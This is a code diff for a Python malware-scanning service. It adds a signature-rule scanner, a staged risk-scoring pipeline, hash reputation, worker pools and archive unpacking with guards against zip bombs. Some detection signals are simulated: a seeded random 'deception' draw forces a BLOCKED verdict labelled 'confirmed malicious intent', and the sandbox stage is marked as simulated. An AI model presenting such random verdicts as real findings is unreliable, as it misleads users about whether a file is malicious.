+            if not sep or not re.fullmatch(r"\$\w+", ident):
+                raise RuleSyntaxError(f"{where}: bad string line {line.strip()!r}")
+            strings.append(_parse_rule_string(name, ident, spec, f"{where} {ident}"))
+        idents = [s.ident for s in strings]
+        if len(set(idents)) != len(idents):
+            raise RuleSyntaxError(f"{where}: duplicate string identifier")
+
+        try:
+            score = int(meta.get("score", 10))
+        except ValueError:
+            raise RuleSyntaxError(f"{where}: score must be an integer") from None
+        condition = _compile_condition(" ".join(sections["condition"].split()), idents, where)
+        rules.append(Rule(name, tags, meta.get("description", name), score, strings, condition))
+    return rules
+
+
+class RuleSet:
+    """A compiled set of rules sharing one anchor-pair prefilter.
+
+    The prefilter runs over the ASCII-lowercased chunk only, with every anchor
+    case-folded; case-sensitive strings are then confirmed against the
+    original bytes at the same offsets.
+    """
+
+    def __init__(self, rules: list[Rule]):
+        names = [r.name for r in rules]
+        if len(set(names)) != len(names):
+            raise RuleSyntaxError("duplicate rule name")
+        self.rules = rules
+        self.strings = [s for r in rules for s in r.strings]
+        self.table = np.zeros(65536, dtype=bool)
+        self.by_anchor: dict[int, list[RuleString]] = {}
+        for s in self.strings:
+            if s.anchor is not None:
+                pair = bytes([s.anchor & 0xFF, s.anchor >> 8]).lower()
+                code = _pair_code(pair[0], pair[1])
+                self.table[code] = True
+                self.by_anchor.setdefault(code, []).append(s)
+        self.unanchored = [s for s in self.strings if s.anchor is None]
+        self.overlap = max((s.length for s in self.strings), default=1) - 1
+
+    def __len__(self) -> int:
+        return len(self.rules)
+
+    def scanner(self) -> "RuleScanner":
+        return RuleScanner(self)
+
+
+class RuleScanner:
+    """Per-artifact matching state; feed chunks in order, then call finish()."""
+
+    def __init__(self, ruleset: RuleSet):
+        self.ruleset = ruleset
+        self.hits: set[tuple[str, str]] = set()
+        self._tail = b""
+
+    def update(self, chunk: bytes) -> None:
+        rs = self.ruleset
+        if not rs.strings or len(self.hits) == len(rs.strings):
+            return
+        buf = self._tail + chunk
+        self._tail = buf[-rs.overlap:] if rs.overlap else b""
+        if len(buf) >= 2 and rs.by_anchor:
+            lowered = buf.lower()
+            # Byte pairs at even and odd offsets are two zero-copy uint16 views.
+            data = np.frombuffer(lowered, dtype=np.uint8)
+            even = data[:len(data) & ~1].view("<u2")
+            odd = data[1:1 + ((len(data) - 1) & ~1)].view("<u2")
+            at_even = np.flatnonzero(np.take(rs.table, even))
+            at_odd = np.flatnonzero(np.take(rs.table, odd))
+            positions = np.concatenate((at_even * 2, at_odd * 2 + 1))
+            codes = np.concatenate((even[at_even], odd[at_odd]))
+            limit = max(16, len(buf) * RULE_CANDIDATE_LIMIT >> 20)
+            for code in np.unique(codes).tolist():
+                pending = [s for s in rs.by_anchor[code] if (s.rule, s.ident) not in self.hits]
+                if not pending:
+                    continue
+                where = positions[codes == code]
+                for s in pending:
+                    text = lowered if s.nocase else buf
+                    # A very common anchor: one search over the chunk beats many probes.
+                    if len(where) > limit:
+                        found = s.matches(text)
+                    else:
+                        found = any(s.matches_at(text, pos) for pos in where.tolist())
+                    if found:
+                        self.hits.add((s.rule, s.ident))
+        for s in rs.unanchored:
+            if (s.rule, s.ident) not in self.hits and s.matches(buf):
+                self.hits.add((s.rule, s.ident))
+
+    def finish(self) -> list[dict]:
+        matched = []
+        for rule in self.ruleset.rules:
+            hit_ids = {ident for name, ident in self.hits if name == rule.name}
+            if rule.condition(hit_ids):
+                matched.append({
+                    "rule": rule.name,
+                    "tags": rule.tags,
+                    "description": rule.description,
+                    "score": rule.score,
+                    "strings": sorted(hit_ids),
+                })
+        return matched
+
+
+def load_rules(directory: str = RULES_DIR) -> RuleSet:
+    rules = []
+    try:
+        names = sorted(n for n in os.listdir(directory) if n.endswith(".rules"))
+    except FileNotFoundError:
+        names = []
+    for name in names:
+        path = os.path.join(directory, name)
+        with open(path, encoding="utf-8") as f:
+            rules += parse_rules(f.read(), path)
+    return RuleSet(rules)
+
+
+RULES = load_rules()
+
+
+def _token_rules() -> RuleSet:
+    # Each suspicious token is a one-string nocase rule, so all of them share one
+    # anchor-pair prefilter pass instead of a substring search per token.
+    rules = []
+    for category, tokens in SUSPICIOUS_TOKENS.items():
+        for token in tokens:
+            name = token.decode()
+            string = RuleString(name, "$token", True, literal=token, anchor=_best_anchor([(0, token)]), length=len(token))
+            rules.append(Rule(name, [category], name, 0, [string], bool))
+    return RuleSet(rules)
+
+
+TOKEN_RULES = _token_rules()
+
+
+# --- Analysis offload --------------------------------------------------------
+#
+# Feature extraction is CPU-bound, so it never runs on the event loop: large
+# artifacts go to a process pool (spilled to a temp file the worker streams
+# from), small ones to a dedicated thread pool where NumPy releases the GIL.
+
+# Split the cores between the web workers rather than giving each a full pool.
+ANALYSIS_PROCESSES = int(os.environ.get("PRECLEAR_ANALYSIS_PROCESSES", max(1, (os.cpu_count() or 1) // WORKERS)))
+ANALYSIS_THREADS = int(os.environ.get("PRECLEAR_ANALYSIS_THREADS", 4))
+PROCESS_POOL_MIN_BYTES = int(os.environ.get("PRECLEAR_PROCESS_POOL_MIN_BYTES", 4 * 1024 * 1024))
+ANALYSIS_QUEUE_LIMIT = int(
+    os.environ.get("PRECLEAR_ANALYSIS_QUEUE_LIMIT", 4 * max(1, ANALYSIS_PROCESSES) + ANALYSIS_THREADS)
+)
+ANALYSIS_RETRY_AFTER = int(os.environ.get("PRECLEAR_ANALYSIS_RETRY_AFTER", 2))
+
+LATENCY_BUCKETS = (0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0)
+
+
+class LatencyHistogram:
+    """Fixed-bucket latency histogram; observe() is a bisect and three additions."""
+
+    def __init__(self, buckets: tuple = LATENCY_BUCKETS):
+        self.buckets = buckets
+        self.counts = [0] * (len(buckets) + 1)  # last slot is +Inf
+        self.count = 0
+        self.sum = 0.0
+        self.max = 0.0
+
+    def observe(self, seconds: float) -> None:
+        self.counts[bisect_left(self.buckets, seconds)] += 1
+        self.count += 1
+        self.sum += seconds
+        if seconds > self.max:
+            self.max = seconds
+
+    def quantile(self, q: float) -> float:
+        # Upper bound of the bucket holding the q-th observation.
+        rank = q * self.count
+        seen = 0
+        for bound, n in zip(self.buckets, self.counts):
+            seen += n
+            if seen >= rank:
+                return min(bound, self.max)
+        return self.max
+
+    def snapshot(self) -> dict:
+        if not self.count:
+            return {"count": 0}
+        return {
+            "count": self.count,
+            "mean_ms": round(self.sum / self.count * 1000, 3),
+            "p50_ms": round(self.quantile(0.5) * 1000, 3),
+            "p95_ms": round(self.quantile(0.95) * 1000, 3),
+            "p99_ms": round(self.quantile(0.99) * 1000, 3),
+            "max_ms": round(self.max * 1000, 3),
+        }
+
+
+STAGE_LATENCY: dict[str, LatencyHistogram] = {}
+
+
+def record_stage(stage: str, seconds: float) -> None:
+    histogram = STAGE_LATENCY.get(stage)
+    if histogram is None:
+        histogram = STAGE_LATENCY.setdefault(stage, LatencyHistogram())
+    histogram.observe(seconds)
+
+
+@contextmanager
+def timed_stage(stage: str):
+    started = time.perf_counter()
+    try:
+        yield
+    finally:
+        record_stage(stage, time.perf_counter() - started)
+
+
+class AnalysisBusy(Exception):
+    pass
+
+
+class AnalysisLimiter:
+    """Bounds analyses in flight. Only touched from the event loop thread."""
+
+    def __init__(self, limit: int):
+        self.limit = limit
+        self.inflight = 0
+        self.rejected = 0
+        self._waiters: deque = deque()
+
+    def try_acquire(self) -> bool:
+        if self.inflight >= self.limit:
+            self.rejected += 1
+            return False
+        self.inflight += 1
+        return True
+
+    async def acquire(self) -> None:
+        while self.inflight >= self.limit:
+            waiter = asyncio.get_running_loop().create_future()
+            self._waiters.append(waiter)
+            await waiter
+        self.inflight += 1
+
+    def release(self) -> None:
+        self.inflight -= 1
+        while self._waiters:
+            waiter = self._waiters.popleft()
+            if not waiter.done():
+                waiter.set_result(None)
+                break
+
+
+ANALYSIS_LIMITER = AnalysisLimiter(ANALYSIS_QUEUE_LIMIT)
+ANALYSIS_THREAD_POOL = ThreadPoolExecutor(max_workers=ANALYSIS_THREADS, thread_name_prefix="analysis")
+_process_pool: ProcessPoolExecutor | None = None
+_process_pool_lock = threading.Lock()
+
+
+def get_process_pool() -> ProcessPoolExecutor:
+    global _process_pool
+    with _process_pool_lock:
+        if _process_pool is None:
+            # forkserver: workers start from a clean process rather than a fork of a
+            # threaded server, and only import this module once each.
+            _process_pool = ProcessPoolExecutor(
+                max_workers=ANALYSIS_PROCESSES,
+                mp_context=multiprocessing.get_context("forkserver"),
+            )
+        return _process_pool
+
+
+def _reset_process_pool(pool: ProcessPoolExecutor) -> None:
+    global _process_pool
+    with _process_pool_lock:
+        if _process_pool is pool:
+            _process_pool = None
+    pool.shutdown(wait=False, cancel_futures=True)
+
+
+def behavioral_analysis_file(path: str):
+    """Process-pool entry point: stream the spilled artifact from disk."""
+    with open(path, "rb") as f:
+        artifact = ArtifactStream(f, os.path.basename(path), os.fstat(f.fileno()).st_size, "")
+        return behavioral_analysis(artifact)
+
+
+async def score_artifact(artifact: "ArtifactStream", wait: bool = False):
+    """Run behavioral_analysis off the event loop, with backpressure.
+
+    Raises AnalysisBusy when the queue is full, unless ``wait`` is set (batch
+    members are already admitted and queue for a slot instead).
+    """
+    if wait:
+        await ANALYSIS_LIMITER.acquire()
+    elif not ANALYSIS_LIMITER.try_acquire():
+        raise AnalysisBusy()
+    loop = asyncio.get_running_loop()
+    try:
+        if ANALYSIS_PROCESSES > 0 and artifact.size >= PROCESS_POOL_MIN_BYTES:
+            with timed_stage("spill"):
+                path = await loop.run_in_executor(ANALYSIS_THREAD_POOL, artifact.spill)
+            pool = get_process_pool()
+            try:
+                return await loop.run_in_executor(pool, behavioral_analysis_file, path)
+            except BrokenProcessPool:
+                # A worker died (e.g. OOM-killed); start a fresh pool next time and
+                # finish this artifact in-process.
+                _reset_process_pool(pool)
+                return await loop.run_in_executor(ANALYSIS_THREAD_POOL, behavioral_analysis, artifact)
+            finally:
+                os.unlink(path)
+        return await loop.run_in_executor(ANALYSIS_THREAD_POOL, behavioral_analysis, artifact)
+    finally:
+        ANALYSIS_LIMITER.release()
+
+
+def analysis_pool_stats() -> dict:
+    return {
+        "processes": ANALYSIS_PROCESSES,
+        "threads": ANALYSIS_THREADS,
+        "process_pool_min_bytes": PROCESS_POOL_MIN_BYTES,
+        "inflight": ANALYSIS_LIMITER.inflight,
+        "queue_limit": ANALYSIS_LIMITER.limit,
+        "rejected": ANALYSIS_LIMITER.rejected,
+    }
+
+
+class SignalSource:
+    """A simulated detection signal.
+
+    Sources must draw only from the ``rng`` they are handed, never from the
+    global ``random`` module, so a report can be reproduced from its seed and
+    concurrent requests never share generator state.
+    """
+
+    name = ""
+
+    def sample(self, rng: random.Random, context: dict):
+        raise NotImplementedError
+
+
+class DeceptionSignal(SignalSource):
+    name = "deception"
+    outcomes = (True, False, False, False)
+
+    def sample(self, rng, context):
+        return rng.choice(self.outcomes)
+
+
+# Lookup tables shared by every alert batch; alerts themselves are just codes.
+SOC_TOOLS = ("EDR", "SIEM", "Email Gateway", "CASB", "IAM", "Firewall", "Proxy", "DLP")
+SOC_TITLES = (
+    "Suspicious PowerShell activity",
+    "Unusual login location",
+    "New device registered",
+    "Multiple failed login attempts",
+    "Possible phishing link clicked",
+    "Outbound connection to unknown domain",
+    "Rare process execution",
+    "OAuth consent granted to new app",
+    "Anomalous file download volume",
+    "New admin permission assigned",
+    "DNS query to newly registered domain",
+    "Credential stuffing pattern suspected",
+)
+SOC_SEVERITIES = ("Low", "Medium", "High")
+SOC_SEVERITY_WEIGHTS = np.array([2, 3, 1]) / 6
+SOC_SAMPLE_ROWS = 12  # alerts listed individually on the report page
+
+
+class AlertColumns:
+    """Synthetic SOC alerts as parallel uint8 code arrays into the SOC_* tables."""
+
+    __slots__ = ("tool", "sev", "title")
+
+    def __init__(self, tool: np.ndarray, sev: np.ndarray, title: np.ndarray):
+        self.tool = tool
+        self.sev = sev
+        self.title = title
+
+    @classmethod
+    def generate(cls, count: int, rng: np.random.Generator) -> "AlertColumns":
+        return cls(
+            rng.integers(0, len(SOC_TOOLS), count, dtype=np.uint8),
+            rng.choice(len(SOC_SEVERITIES), count, p=SOC_SEVERITY_WEIGHTS).astype(np.uint8),
+            rng.integers(0, len(SOC_TITLES), count, dtype=np.uint8),
+        )
+
+    def __len__(self) -> int:
+        return len(self.tool)
+
+    def counts(self) -> np.ndarray:
+        """Alert counts as a len(SOC_TOOLS) x len(SOC_SEVERITIES) matrix."""
+        cells = self.tool.astype(np.intp) * len(SOC_SEVERITIES) + self.sev
+        return np.bincount(cells, minlength=len(SOC_TOOLS) * len(SOC_SEVERITIES)).reshape(
+            len(SOC_TOOLS), len(SOC_SEVERITIES)
+        )
+
+    def rows(self, limit: int) -> list[dict]:
+        return [
+            {"tool": SOC_TOOLS[t], "sev": SOC_SEVERITIES[s], "title": SOC_TITLES[x]}
+            for t, s, x in zip(self.tool[:limit].tolist(), self.sev[:limit].tolist(), self.title[:limit].tolist())
+        ]
+
+    def summary(self) -> dict:
+        return {
+            "total": len(self),
+            "tools": list(SOC_TOOLS),
+            "severities": list(SOC_SEVERITIES),
+            "counts": self.counts().tolist(),
+        }
+
+
+def summarize_alert_dicts(alerts: list[dict]) -> dict:
+    # Reports stored before alerts went columnar carry only the per-alert dicts.
+    tools = list(dict.fromkeys(a["tool"] for a in alerts))
+    severities = [s for s in SOC_SEVERITIES if any(a["sev"] == s for a in alerts)]
+    counts = [[0] * len(severities) for _ in tools]
+    for a in alerts:
+        if a["sev"] in severities:
+            counts[tools.index(a["tool"])][severities.index(a["sev"])] += 1
+    return {"total": len(alerts), "tools": tools, "severities": severities, "counts": counts}
+
+
+class SocNoiseSignal(SignalSource):
+    name = "soc_noise"
+
+    def sample(self, rng, context):
+        count = context.get("count") or rng.randint(18, 35)
+        return AlertColumns.generate(count, np.random.default_rng(rng.getrandbits(64)))
+
+
+SIGNAL_SOURCES: dict[str, SignalSource] = {}
+
+
+def register_signal_source(source: SignalSource) -> None:
+    SIGNAL_SOURCES[source.name] = source
+
+
+register_signal_source(DeceptionSignal())
+register_signal_source(SocNoiseSignal())
+
+
+def signal_seed(sha256: str | None = None, seed: int | None = None) -> int:
+    """Seed for a request, derived from the artifact digest and any caller seed.
 
-REPORT_STORE: dict[str, dict] = {}
-REPORT_ORDER: list[str] = []
-MAX_REPORTS = 20
+    A caller seed is mixed with the digest rather than used as-is, so a seeded
+    batch or archive stays reproducible without every artifact getting the same
+    draw. Reports with no artifact (simulations) use the caller seed, else a
+    fresh random one, which is stored on the report so it can still be replayed.
+    """
+    # Kept under 2**53 so the seed survives a round trip through JSON in a browser.
+    if sha256 and seed is not None:
+        return int(hashlib.sha256(f"{seed}:{sha256}".encode()).hexdigest()[:13], 16)
+    if seed is not None:
+        return int(seed)
+    if sha256:
+        return int(sha256[:13], 16)
+    return random.SystemRandom().getrandbits(52)
 
-def store_report(report: dict) -> str:
-    report_id = report["report_id"]
-    REPORT_STORE[report_id] = report
-    REPORT_ORDER.insert(0, report_id)  # newest first
 
-    # Trim old
-    while len(REPORT_ORDER) > MAX_REPORTS:
-        old_id = REPORT_ORDER.pop()
-        REPORT_STORE.pop(old_id, None)
+def draw_signal(name: str, seed: int, context: dict | None = None):
+    # One generator per (seed, source): adding or reordering sources never
+    # shifts the values another source draws for the same seed.
+    rng = random.Random(f"{seed}:{name}")
+    return SIGNAL_SOURCES[name].sample(rng, context or {})
 
-    return report_id
 
-app.mount("/static", StaticFiles(directory="static"), name="static")
+def deception_check(seed: int):
+    return draw_signal("deception", seed)
 
-def behavioral_analysis(file_content: bytes):
-    score = random.randint(1, 100)
-    behavior_flags = []
-    if score > 35:
-        behavior_flags.append("Observed suspicious script execution pattern")
-    if score > 55:
-        behavior_flags.append("Outbound network callback behavior detected")
-    if score > 75:
-        behavior_flags.append("Privilege escalation / credential access behavior")
-    return score, behavior_flags
 
+# --- Risk scoring pipeline -------------------------------------------------------
+#
+# Each detector is a stage adding weight * score to the final risk, in
+# SCORING_PIPELINE order. A stage can also force the verdict (a known-bad hash,
+# a deception trip); that ends the pipeline, so the expensive stages behind the
+# cheap ones are skipped for obvious verdicts. Weights can be overridden with
+# PRECLEAR_STAGE_WEIGHTS, e.g. "behavioral=1,signatures=0.5".
 
-def deception_check():
-    return random.choice([True, False, False, False])
+VERDICT_THRESHOLDS = (
+    ("BLOCKED", int(os.environ.get("PRECLEAR_BLOCK_THRESHOLD", 80)), "High-confidence malicious behavioral indicators."),
+    ("QUARANTINED", int(os.environ.get("PRECLEAR_QUARANTINE_THRESHOLD", 55)), "Suspicious indicators; requires further validation."),
+)
+DECEPTION_RATIONALE = "Deception trigger indicates confirmed malicious intent."
+DECEPTION_SCORE = 30
+REPUTATION_FILE = os.environ.get("PRECLEAR_REPUTATION_FILE", os.path.join(RULES_DIR, "reputation.txt"))
+BEHAVIORAL_TIMEOUT = float(os.environ.get("PRECLEAR_BEHAVIORAL_TIMEOUT", 30))
 
 
 def classify_verdict(final_risk_score: int, deception_triggered: bool):
     if deception_triggered:
-        return "BLOCKED", "Deception trigger indicates confirmed malicious intent."
-    if final_risk_score >= 80:
-        return "BLOCKED", "High-confidence malicious behavioral indicators."
-    if final_risk_score >= 55:
-        return "QUARANTINED", "Suspicious indicators; requires further validation."
+        return "BLOCKED", DECEPTION_RATIONALE
+    for verdict, threshold, rationale in VERDICT_THRESHOLDS:
+        if final_risk_score >= threshold:
+            return verdict, rationale
     return "CLEARED", "No significant malicious behavior detected."
 
 
+class ScoringStage:
+    """One detector in the risk pipeline.
+
+    ``run`` returns ``{"score": 0-100, "flags": [...]}`` and may add ``verdict``,
+    ``rationale`` and ``risk`` to force the outcome. Stages share ``ctx``; a
+    stage only runs once everything in ``requires`` has completed.
+    """
+
+    name = ""
+    description = ""  # shown in the live event feed once the stage finishes
+    weight = 1.0
+    timeout: float | None = None
+    timeout_score = 0  # score contributed when the stage times out
+    requires: tuple[str, ...] = ()
+    for_members = True  # also runs for archive members, not just the uploaded artifact
+
+    async def run(self, ctx: dict) -> dict:
+        raise NotImplementedError
+
+
+def load_reputation(path: str = REPUTATION_FILE) -> dict[str, tuple[str, str]]:
+    """sha256 -> (disposition, note), from lines of ``<sha256> malicious|trusted [note]``."""
+    entries = {}
+    try:
+        with open(path, encoding="utf-8") as f:
+            lines = f.read().splitlines()
+    except FileNotFoundError:
+        return entries
+    for number, line in enumerate(lines, 1):
+        parts = line.split("#", 1)[0].split(None, 2)
+        if not parts:
+            continue
+        if len(parts) < 2 or len(parts[0]) != 64 or parts[1] not in ("malicious", "trusted"):
+            raise ValueError(f"{path}:{number}: expected '<sha256> malicious|trusted [note]'")
+        entries[parts[0].lower()] = (parts[1], parts[2] if len(parts) > 2 else "")
+    return entries
+
+
+class ReputationStage(ScoringStage):
+    name = "reputation"
+    description = "Hash reputation checked"
+
+    def __init__(self, entries: dict[str, tuple[str, str]]):
+        self.entries = entries
+
+    async def run(self, ctx):
+        entry = self.entries.get(ctx["artifact"].sha256)
+        if entry is None:
+            return {"score": 0, "flags": []}
+        disposition, note = entry
+        if disposition == "trusted":
+            return {"score": 0, "flags": [], "verdict": "CLEARED", "rationale": "Artifact hash is on the trusted list.", "risk": 0}
+        return {
+            "score": 100,
+            "flags": ["Known-bad artifact hash" + (f": {note}" if note else "")],
+            "verdict": "BLOCKED",
+            "rationale": "Artifact hash is on the known-bad list.",
+            "risk": 100,
+        }
+
+
+class DeceptionStage(ScoringStage):
+    name = "deception"
+    description = "Deception assets checked"
+    # Drawn once per upload: a draw per archive member would make any archive
+    # with enough members all but certain to be BLOCKED.
+    for_members = False
+
+    async def run(self, ctx):
+        ctx["deception_triggered"] = deception_check(ctx["seed"])
+        if not ctx["deception_triggered"]:
+            return {"score": 0, "flags": []}
+        return {"score": DECEPTION_SCORE, "flags": [], "verdict": "BLOCKED", "rationale": DECEPTION_RATIONALE, "risk": 100}
+
+
+class BehavioralStage(ScoringStage):
+    name = "behavioral"
+    description = "Behavioral sandbox executed (simulated)"
+    timeout = BEHAVIORAL_TIMEOUT or None
+    timeout_score = VERDICT_THRESHOLDS[-1][1]  # an unfinished analysis is held for review
+
+    async def run(self, ctx):
+        if ctx["inline"]:
+            score, flags, features = behavioral_analysis(ctx["artifact"])
+        else:
+            score, flags, features = await score_artifact(ctx["artifact"], wait=ctx["wait"])
+        ctx["features"] = features
+        return {"score": score, "flags": flags}
+
+
+class SignatureStage(ScoringStage):
+    name = "signatures"
+    description = "Signature rules matched"
+    requires = ("behavioral",)  # rule strings are matched during the feature pass
+
+    async def run(self, ctx):
+        hits = ctx["features"]["rule_hits"]
+        return {
+            "score": min(RULE_MAX_SCORE, sum(hit["score"] for hit in hits)),
+            "flags": [f"Signature {hit['rule']}: {hit['description']}" for hit in hits],
+        }
+
+
+def parse_stage_weights(spec: str) -> dict[str, float]:
+    weights = {}
+    for item in filter(None, (part.strip() for part in spec.split(","))):
+        name, _, value = item.partition("=")
+        weights[name.strip()] = float(value)
+    return weights
+
+
+STAGE_WEIGHTS = parse_stage_weights(os.environ.get("PRECLEAR_STAGE_WEIGHTS", ""))
+SCORING_PIPELINE: list[ScoringStage] = []
+
+
+def register_scoring_stage(stage: ScoringStage) -> None:
+    stage.weight = STAGE_WEIGHTS.get(stage.name, stage.weight)
+    SCORING_PIPELINE.append(stage)
+
+
+# Cheapest first: both of these can settle the verdict before any feature pass.
+register_scoring_stage(ReputationStage(load_reputation()))
+register_scoring_stage(DeceptionStage())
+register_scoring_stage(BehavioralStage())
+register_scoring_stage(SignatureStage())
+
+
+def _discard_outcome(task: asyncio.Task) -> None:
+    if not task.cancelled():
+        task.exception()
+
+
+async def run_stage(stage: ScoringStage, ctx: dict) -> dict:
+    task = asyncio.ensure_future(stage.run(ctx))
+    try:
+        return await asyncio.wait_for(asyncio.shield(task), stage.timeout)
+    except asyncio.TimeoutError:
+        # Executor work cannot be interrupted. Let the task run out in the
+        # background so it keeps its analysis slot until the worker is free.
+        task.add_done_callback(_discard_outcome)
+        raise
+
+
+async def run_scoring_pipeline(
+    artifact, seed: int, wait: bool = False, inline: bool = False, member: bool = False, progress=None
+) -> dict:
+    """Run SCORING_PIPELINE; ``progress(step)``, if given, is called as each stage finishes."""
+    ctx = {"artifact": artifact, "seed": seed, "wait": wait, "inline": inline, "features": None, "deception_triggered": False}
+    stages, flags, completed = [], [], set()
+    total = 0.0
+    forced = None
+    for stage in SCORING_PIPELINE:
+        record = {"name": stage.name, "weight": stage.weight, "score": 0, "status": "skipped", "elapsed_ms": 0.0}
+        stages.append(record)
+        if forced is not None or not completed.issuperset(stage.requires):
+            continue
+        if member and not stage.for_members:
+            completed.add(stage.name)
+            continue
+        started = time.perf_counter()
+        try:
+            outcome = await run_stage(stage, ctx)
+            record["status"] = "ok"
+            completed.add(stage.name)
+        except asyncio.TimeoutError:
+            outcome = {"score": stage.timeout_score, "flags": [f"Stage {stage.name} timed out after {stage.timeout:g}s"]}
+            record["status"] = "timeout"
+        elapsed = time.perf_counter() - started
+        record_stage(f"score_{stage.name}", elapsed)
+        record["elapsed_ms"] = round(elapsed * 1000, 3)
+        record["score"] = outcome["score"]
+        total += stage.weight * outcome["score"]
+        flags += outcome["flags"]
+        if "verdict" in outcome:
+            forced = (stage.name, outcome)
+        if progress is not None:
+            status = "timed out" if record["status"] == "timeout" else f"score {outcome['score']}"
+            progress(f"{stage.description or stage.name}: {status}")
+    if forced is not None:
+        outcome = forced[1]
+        final_risk, verdict, rationale = outcome["risk"], outcome["verdict"], outcome["rationale"]
+    else:
+        final_risk = max(0, min(100, round(total)))
+        verdict, rationale = classify_verdict(final_risk, False)
+    scores = {record["name"]: record["score"] for record in stages}
+    return {
+        "features": ctx["features"],
+        "behavior_score": min(100, scores.get("behavioral", 0) + scores.get("signatures", 0)),
+        "deception_triggered": ctx["deception_triggered"],
+        "final_risk": final_risk,
+        "verdict": verdict,
+        "rationale": rationale,
+        "flags": flags,
+        "stages": stages,
+        "short_circuit": forced[0] if forced is not None else None,
+    }
+
+
+def analysis_timed_out(result: dict) -> bool:
+    """True if a stage of this result, or of any archive member under it, timed out."""
+    if any(record["status"] == "timeout" for record in result["stages"]):
+        return True
+    return any(m.get("timed_out") for m in result.get("archive", {}).get("members", ()))
+
+
+def run_analysis(artifact, seed: int | None = None) -> dict:
+    # Synchronous, in-process variant of the pipeline (scripts, benchmarks).
+    return asyncio.run(run_scoring_pipeline(artifact, signal_seed(artifact.sha256, seed), inline=True))
+
+
+async def cached_analysis(
+    artifact: ArtifactStream,
+    wait: bool = False,
+    seed: int | None = None,
+    depth: int = 0,
+    budget: "ExpansionBudget | None" = None,
+    progress=None,
+) -> tuple[dict, bool]:
+    # The key comes from the ingestion pass, so a hit skips the feature pass entirely.
+    # A caller-chosen seed can change the simulated signals, so it is part of the key.
+    key = artifact.sha256 if seed is None else f"{artifact.sha256}:{seed}"
+    # Members skip the per-upload stages, so they are cached apart from uploads.
+    member = depth > 0
+    if member:
+        key = f"member:{key}"
+    result = VERDICT_CACHE.get(key)
+    if result is not None:
+        return result, True
+    result = await run_scoring_pipeline(artifact, signal_seed(artifact.sha256, seed), wait=wait, member=member, progress=progress)
+    # A forced verdict already settles the container; there is no need to unpack it.
+    kind = None if result["short_circuit"] else archive_kind(artifact)
+    # An archive cut short by the depth limit or the shared budget reflects
+    # where it was found, not what it holds, so that result is not cached.
+    # Neither is a timeout score: the next attempt may well finish in time.
+    complete = True
+    if kind is not None and depth >= ARCHIVE_MAX_DEPTH:
+        if budget is not None:
+            budget.note(f"archives nested deeper than {ARCHIVE_MAX_DEPTH} levels")
+        complete = False
+    elif kind is not None:
+        budget = budget if budget is not None else ExpansionBudget()
+        with timed_stage("archive_scan"):
+            members = await scan_archive(artifact, kind, depth, budget, seed)
+        result = aggregate_archive(result, kind, members, budget)
+        if progress is not None:
+            archive = result["archive"]
+            progress(f"Archive unpacked ({kind}): {archive['scanned']} members scanned")
+        complete = not budget.exceeded
+    if complete and not analysis_timed_out(result):
+        VERDICT_CACHE.put(key, result)
+    return result, False
+
+
+# --- Archive scanning ----------------------------------------------------------
+#
+# zip/tar/gzip uploads are unpacked as streams, member by member, and every
+# member goes through cached_analysis like a standalone upload (so nested
+# archives recurse). One ExpansionBudget per upload caps the whole tree.
+
+ARCHIVE_MAX_DEPTH = int(os.environ.get("PRECLEAR_ARCHIVE_MAX_DEPTH", 3))
+ARCHIVE_MAX_MEMBERS = int(os.environ.get("PRECLEAR_ARCHIVE_MAX_MEMBERS", 1000))
+ARCHIVE_MAX_EXPANDED_BYTES = int(os.environ.get("PRECLEAR_ARCHIVE_MAX_EXPANDED_BYTES", 1024 * 1024 * 1024))
+ARCHIVE_CONCURRENCY = int(os.environ.get("PRECLEAR_ARCHIVE_CONCURRENCY", 4))
+ARCHIVE_LIMIT_RISK = 60  # an archive we could not fully unpack is held for review
+ARCHIVE_MAX_FLAGS = 20
+ARCHIVE_LIMIT_FLAG = "Archive expansion stopped: "
+
+
+class ArchiveLimitExceeded(Exception):
+    pass
+
+
+# Corrupt member data surfaces as whichever codec's error the member used
+# (zlib.error, lzma.LZMAError, OSError from bz2), besides the formats' own.
+MEMBER_READ_ERRORS = (zipfile.BadZipFile, zlib.error, lzma.LZMAError, EOFError, OSError)
+ARCHIVE_READ_ERRORS = MEMBER_READ_ERRORS + (tarfile.TarError,)
+
+
+class ExpansionBudget:
+    """Members and decompressed bytes still allowed for one upload's archive tree.
+
+    Counts bytes actually produced by decompression, not sizes declared in
+    archive headers, which a zip bomb can forge.
+    """
+
+    def __init__(self, members: int | None = None, expanded_bytes: int | None = None):
+        self.members = ARCHIVE_MAX_MEMBERS if members is None else members
+        self.expanded_bytes = ARCHIVE_MAX_EXPANDED_BYTES if expanded_bytes is None else expanded_bytes
+        self.members_seen = 0
+        self.bytes_seen = 0
+        self.exceeded: list[str] = []
+        self._lock = threading.Lock()  # members of nested archives are read from several threads
+
+    def note(self, limit: str) -> None:
+        with self._lock:
+            if limit not in self.exceeded:
+                self.exceeded.append(limit)
+
+    def take_member(self) -> None:
+        with self._lock:
+            if self.members_seen >= self.members:
+                raise ArchiveLimitExceeded(f"more than {self.members} members")
+            self.members_seen += 1
+
+    def take_bytes(self, n: int) -> None:
+        with self._lock:
+            self.bytes_seen += n
+            if self.bytes_seen > self.expanded_bytes:
+                raise ArchiveLimitExceeded(f"more than {self.expanded_bytes} expanded bytes")
+
+
+class BudgetedReader:
+    def __init__(self, src, budget: ExpansionBudget):
+        self._src = src
+        self._budget = budget
+
+    def read(self, n: int = -1) -> bytes:
+        chunk = self._src.read(n)
+        self._budget.take_bytes(len(chunk))
+        return chunk
+
+
+def archive_kind(artifact: ArtifactStream) -> str | None:
+    head = next(artifact.iter_chunks(512), b"")
+    if head.startswith((b"PK\x03\x04", b"PK\x05\x06")):
+        return "zip"
+    if head.startswith(b"\x1f\x8b"):
+        return "gzip"
+    if len(head) >= 262 and head[257:262] == b"ustar":
+        return "tar"
+    return None
+
+
+def iter_archive_members(artifact: ArtifactStream, kind: str, budget: ExpansionBudget):
+    """Yield (name, ArtifactStream | Exception) for each regular file in the archive."""
+    fileobj = artifact.reader()
+    if kind == "gzip":
+        budget.take_member()
+        name = artifact.filename[:-3] if artifact.filename.endswith(".gz") else artifact.filename + ".out"
+        with gzip.GzipFile(fileobj=fileobj, mode="rb") as member:
+            yield name, ingest_stream(BudgetedReader(member, budget), name)
+        return
+    if kind == "zip":
+        with zipfile.ZipFile(fileobj) as bundle:
+            for info in bundle.infolist():
+                if info.is_dir():
+                    continue
+                budget.take_member()
+                try:
+                    with bundle.open(info) as member:
